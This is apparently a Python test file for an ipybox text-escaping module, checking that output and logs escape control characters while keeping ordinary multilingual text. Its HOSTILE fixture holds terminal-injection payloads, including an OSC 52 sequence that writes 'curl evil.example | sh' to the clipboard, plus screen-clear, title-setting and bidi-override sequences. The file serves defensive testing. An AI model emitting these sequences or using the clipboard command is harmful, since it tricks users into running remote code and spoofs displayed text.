"""`ipybox.display_text`: what is escaped, what is kept, and that escaping twice changes nothing."""

from __future__ import annotations

import logging
import sys

from ipybox.display_text import PrintableFormatter, one_line, printable

# What a kernel or a server can put in a name, an argument, an error message or its stderr.
HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: writes `curl evil.example | sh` to the clipboard
    "\x1b[2J\x1b[H"  # CSI: clear the screen, cursor home
    "\x1b]0;owned\x07"  # the window title
    "safe\roverwritten"  # a carriage return that writes over the line
    "\u202eevil\u2066isolated\u2069"  # bidi override and isolate
    "zero\u200bwidth\u2060joiner\ufeff"  # zero-width space, word joiner, BOM
    "\ud800"  # a lone surrogate
    "\x9b31m"  # a C1 CSI
    "\u3164\u115f"  # Hangul fillers: letters that show as nothing
)
RAW = (
    "\x1b",
    "\x07",
    "\r",
    "\u202e",
    "\u2066",
    "\u2069",
    "\u200b",
    "\u2060",
    "\ufeff",
    "\ud800",
    "\x9b",
    "\u3164",
)


def assert_shown_safely(text: str) -> None:
    """Nothing of `HOSTILE` is raw in `text`, and its escape sequence is visible as text."""
    for char in RAW:
        assert char not in text, f"{char!r} reached the output raw"
    assert "\\x1b]52;c;" in text and "\\u202e" in text and "\\u200b" in text


def test_control_format_and_invisible_characters_are_shown_as_escapes() -> None:
    assert printable(HOSTILE) == (
        "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2J\\x1b[H\\x1b]0;owned\\x07safe\\x0doverwritten"
        "\\u202eevil\\u2066isolated\\u2069zero\\u200bwidth\\u2060joiner\\ufeff\\ud800\\x9b31m\\u3164\\u115f"
    )
    assert printable("a\u2028b\U000e0041") == "a\\u2028b\\U000e0041"  # line separator, a tag character


def test_ordinary_text_of_any_script_is_kept() -> None:
    text = "Grüße, 東京, مرحبا, e\u0301, 👍🏽, \\x1b as typed, a\u00a0b"
    assert printable(text) == text


def test_lines_keep_newlines_and_tabs_only() -> None:
    assert printable("a\tb\nc\r\n", lines=True) == "a\tb\nc\\x0d\n"
    assert printable("a\tb\nc") == "a\\x09b\\x0ac"
    assert one_line("  a\t b\n\nc\u202e ") == "a b c\\u202e"


def test_escaping_twice_changes_nothing() -> None:
    once = printable(HOSTILE, lines=True)
    assert printable(once, lines=True) == once and printable(once) == once


def test_the_log_formatter_escapes_message_arguments_and_traceback() -> None:
    formatter = PrintableFormatter("%(levelname)s %(message)s")
    try:
        raise ValueError(HOSTILE)
    except ValueError:
        record = logging.LogRecord(
            "ipybox.x", logging.ERROR, __file__, 1, "server said %s", (HOSTILE,), sys.exc_info()
        )
    shown = formatter.format(record)
    assert_shown_safely(shown)
    assert shown.startswith("ERROR server said \\x1b]52") and "\nTraceback" in shown
